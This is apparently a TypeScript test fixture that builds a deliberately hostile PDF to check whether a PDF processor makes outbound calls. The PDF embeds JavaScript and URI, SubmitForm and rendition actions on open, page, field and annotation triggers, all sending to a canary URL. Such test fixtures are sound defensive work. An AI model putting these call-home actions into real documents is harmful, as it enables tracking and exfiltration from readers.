/** PDFs written object by object, with whatever actions, links and forms a hostile sender would put in. */

/** A document of these objects; the first is the catalogue. Each is the text between `obj` and `endobj`. */
export function rawPdf(objects: readonly string[]): Buffer {
  let text = '%PDF-1.7\n';
  const places = objects.map((object, index) => {
    const at = text.length;
    text += `${index + 1} 0 obj\n${object}\nendobj\n`;
    return at;
  });
  const table = text.length;
  const rows = places.map((at) => `${String(at).padStart(10, '0')} 00000 n \n`).join('');
  text += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${rows}`;
  text += `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${table}\n%%EOF\n`;
  return Buffer.from(text, 'latin1');
}

export function stream(content: string): string {
  return `<< /Length ${content.length} >>\nstream\n${content}\nendstream`;
}

/** One page with a line of text and a line in Chinese whose letters are not embedded, and every way out that a PDF knows, to `canary`. */
export function hostilePdf(canary: string): Buffer {
  const script = `app.alert('canary'); this.submitForm('${canary}/form'); app.launchURL('${canary}/launch'); this.getURL('${canary}/get');`;
  const run = `<< /S /JavaScript /JS (${script.replaceAll(/[()\\]/g, (sign) => `\\${sign}`)}) >>`;
  const go = (place: string) => `<< /S /URI /URI (${canary}/${place}) >>`;
  const all = '[0 0 400 300]';
  return rawPdf([
    `<< /Type /Catalog /Pages 2 0 R /OpenAction ${run} /AA << /WC ${run} >> /AcroForm << /Fields [6 0 R] /NeedAppearances true >> /Names << /JavaScript << /Names [(a) ${run}] >> >> >>`,
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 400 300] /Contents 4 0 R /Resources << /Font << /F 5 0 R /G 9 0 R >> >> /Annots [6 0 R 7 0 R 8 0 R] /AA << /O ${run} >> >>`,
    stream('BT /F 24 Tf 40 200 Td (Read me, if you can) Tj /G 24 Tf 0 -60 Td <4F60597D> Tj ET'),
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
    `<< /Type /Annot /Subtype /Widget /FT /Tx /T (field) /V (value) /Rect [40 40 200 60] /AA << /K ${run} /Fo ${run} >> /A << /S /SubmitForm /F (${canary}/submit) >> >>`,
    `<< /Type /Annot /Subtype /Link /Rect ${all} /A ${go('link')} /AA << /PO ${go('page-open')} /E ${go('enter')} >> >>`,
    `<< /Type /Annot /Subtype /Screen /Rect ${all} /A << /S /Rendition /JS (app.launchURL\\('${canary}/screen'\\)) >> >>`,
    '<< /Type /Font /Subtype /Type0 /BaseFont /STSong-Light /Encoding /UniGB-UCS2-H /DescendantFonts [10 0 R] >>',
    '<< /Type /Font /Subtype /CIDFontType0 /BaseFont /STSong-Light /CIDSystemInfo << /Registry (Adobe) /Ordering (GB1) /Supplement 0 >> /FontDescriptor 11 0 R >>',
    '<< /Type /FontDescriptor /FontName /STSong-Light /Flags 6 /FontBBox [-25 -254 1000 880] /ItalicAngle 0 /Ascent 880 /Descent -120 /CapHeight 880 /StemV 93 >>',
  ]);
}
